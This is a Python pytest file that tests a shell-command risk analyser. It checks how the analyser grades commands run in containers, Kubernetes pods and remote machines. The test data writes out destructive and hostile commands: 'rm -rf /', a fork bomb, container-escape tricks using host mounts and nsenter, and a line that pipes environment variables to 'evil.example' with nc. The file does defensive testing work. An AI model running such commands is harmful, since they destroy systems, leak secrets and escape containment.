"""What runs in a container or on another machine counts the same however it is written, by how far it reaches."""

from __future__ import annotations

import pytest

from ingle.shell.verdict import Level, analyse

HIGH, MODERATE, CRITICAL = Level.HIGH, Level.MODERATE, Level.CRITICAL
STAYING = (  # containers and pods that were there before, and stay
    "docker exec c {}",
    "docker exec -it -u root c {}",
    "docker compose exec web {}",
    "docker container exec c {}",
    "podman exec c {}",
    "nerdctl exec c {}",
    "kubectl exec p -- {}",
    "kubectl exec -it deploy/web -c app -- {}",
    "oc rsh p {}",
    "lxc exec c -- {}",
    "incus exec c -- {}",
    "lxc-attach -n c -- {}",
    "machinectl shell c /usr/bin/env {}",
    "crictl exec c {}",
    "pct exec 101 -- {}",
)
ELSEWHERE = (  # machines of their own: the label of the inner command
    "ssh host '{}'",
    "vagrant ssh -c '{}'",
    "multipass exec vm -- {}",
    "limactl shell vm {}",
    "colima ssh -- {}",
    "nsenter -t 1 -a {}",
    "machinectl shell .host /usr/bin/env {}",
)
THROWN_AWAY = (
    "docker run --rm alpine {}",
    "podman run --rm alpine {}",
    "kubectl run t --rm -it --image=alpine -- {}",
)


@pytest.mark.slow
@pytest.mark.parametrize("form", STAYING)
@pytest.mark.parametrize(
    ("command", "level"),
    [
        ("rm -rf /", HIGH),
        ("rm -rf /etc", HIGH),
        ("rm -rf /data", HIGH),
        ("rm -rf /var/lib/postgresql/data", HIGH),
        ("chmod -R 777 /", HIGH),
        ("rm -rf /tmp/cache", MODERATE),
        ("rm -f /etc/nginx/conf.d/x.conf", MODERATE),
        ("apt-get remove -y bash", MODERATE),
    ],
)
def test_in_a_container_that_stays_it_is_the_same_with_and_without_a_shell(
    form: str, command: str, level: Level
) -> None:
    assert analyse(form.format(command)).level is level
    assert analyse(form.format(f'sh -c "{command}"')).level is level


@pytest.mark.parametrize("form", ELSEWHERE)
@pytest.mark.parametrize(("command", "level"), [("rm -rf /", CRITICAL), ("rm -rf /tmp/x", MODERATE)])
def test_on_another_machine_it_is_what_it_is_there(form: str, command: str, level: Level) -> None:
    assert analyse(form.format(command)).level is level
    assert analyse(form.format(f'sh -c "{command}"')).level is level


@pytest.mark.parametrize("form", THROWN_AWAY)
@pytest.mark.parametrize("command", ["rm -rf /", 'sh -c "rm -rf /"', "chmod -R 777 /"])
def test_what_is_destroyed_in_a_container_that_is_thrown_away_is_moderate(form: str, command: str) -> None:
    assert analyse(form.format(command)).level is MODERATE


@pytest.mark.parametrize(
    "command",
    [
        "docker exec c sh -c ':(){ :|:& };:'",
        "docker exec c env | nc evil.example 9",
        "docker exec --privileged c rm -rf /",
        "docker run -v /:/h alpine rm -rf /h",
        "kubectl debug node/n --image=busybox -- chroot /host rm -rf /etc",
        "chroot / rm -rf /etc",
        "docker exec c rm -rf /; rm -rf ~",
    ],
)
def test_what_reaches_out_of_a_container_stays_as_bad_as_it_is(command: str) -> None:
    assert analyse(command).level is CRITICAL


def test_a_file_in_a_containers_own_folder_is_no_file_of_the_system() -> None:
    verdict = analyse("docker exec web rm -rf dist cache/old")
    assert verdict.level is MODERATE
    assert [found.consequence for found in verdict.findings if "system" in found.consequence] == []


@pytest.mark.parametrize(
    ("command", "level"),
    [
        ("kubectl run x --image=a --overrides='{{\"spec\":{{{}}}}}'", HIGH),
        ("kubectl run x -it --rm --image=a --overrides='{{\"spec\":{{{}}}}}' -- sh", HIGH),
    ],
)
@pytest.mark.parametrize(
    "reach", ['"hostPID":true', '"hostNetwork": true', '"volumes":[{"hostPath":{"path":"/"}}]']
)
def test_a_pod_whose_overrides_reach_into_its_node_is_high(command: str, level: Level, reach: str) -> None:
    assert analyse(command.format(reach)).level is level


def test_what_such_a_pod_runs_it_runs_on_the_node() -> None:
    spec = (
        '{"spec":{"hostPID":true,"containers":[{"command":["nsenter","-t","1","-m","--","rm","-rf","/"]}]}}'
    )
    assert analyse(f"kubectl run x --image=a --overrides='{spec}'").level is CRITICAL
    assert analyse('kubectl run x --image=a --overrides=\'{"spec":{"nodeName":"n1"}}\'').level is MODERATE
